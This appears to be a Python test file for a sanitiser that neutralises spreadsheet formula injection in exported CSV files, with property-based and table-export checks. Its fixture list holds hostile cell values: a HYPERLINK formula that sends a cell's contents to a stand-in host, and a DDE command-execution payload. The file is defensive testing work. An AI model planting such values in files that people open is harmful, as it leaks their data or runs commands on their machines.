"""Text that a spreadsheet would run is made text; numbers and other text stay as they are."""

import csv
import io

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from iapt_ledger.build.offered.harmless import harmless, harmless_csv
from iapt_ledger.build.offered.tables import csv_of, results_csv

HOSTILE = [
    '=HYPERLINK("http://e.example/?"&A1,"x")',
    "=1+1",
    "+44 20 7946",
    "-cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "＝1+1",
    "--5",
    "+",
]
PLAIN = ["-0.5", "+3", "1e-5", "-1E+3", "-.5", "a=b", "", "'=1", "−0.1%", "NHS", "50.5%", "5 - 3"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text):
    assert harmless(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_anything_else_stays(text):
    assert harmless(text) == text


def test_a_file_without_formulas_keeps_its_very_bytes():
    content = b'a,"b"\r\n-0.5,"x, y"\r\n'
    assert harmless_csv(content) == content


def test_only_the_hostile_cells_of_a_file_change():
    rows = [["name", "value"], *[[text, "-1.5"] for text in HOSTILE]]
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    made = list(csv.reader(io.StringIO(harmless_csv(out.getvalue().encode()).decode(), newline="")))
    assert made == [["name", "value"], *[["'" + text, "-1.5"] for text in HOSTILE]]


def test_hostile_text_of_a_table_and_of_results_is_harmless():
    table = pa.table(
        {"note": [*HOSTILE, None, "plain"], "value": [-1.5] * len(HOSTILE) + [None, 2]}
    )
    text = csv_of(table).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[0] for row in rows] == [*("'" + one for one in HOSTILE), "", "plain"]
    assert [row[1] for row in rows] == ["-1.5"] * len(HOSTILE) + ["", "2"]
    record = {"id": "x.y", "value": -2.5, "low": None, "made": "=1+1", "sources": ["a", "b"]}
    (row,) = csv.DictReader(io.StringIO(results_csv([record]).decode()))
    assert (row["value"], row["low"], row["made"]) == ("-2.5", "", "'=1+1")
    assert row["sources"] == "a b"


@given(st.text())
def test_no_text_at_all_can_start_a_formula(text):
    made = harmless(text)
    try:
        float(made)
    except ValueError:
        assert not made.lstrip().startswith(("=", "+", "-", "@"))


def test_days_have_no_time_and_numbers_no_quotes():
    table = pa.table(
        {"day": pa.array([0], pa.timestamp("ns")), "n": [12.0], "whole": [3], "flag": [True]}
    )
    assert csv_of(table) == b'"day","n","whole","flag"\n1970-01-01,12,3,true\n'
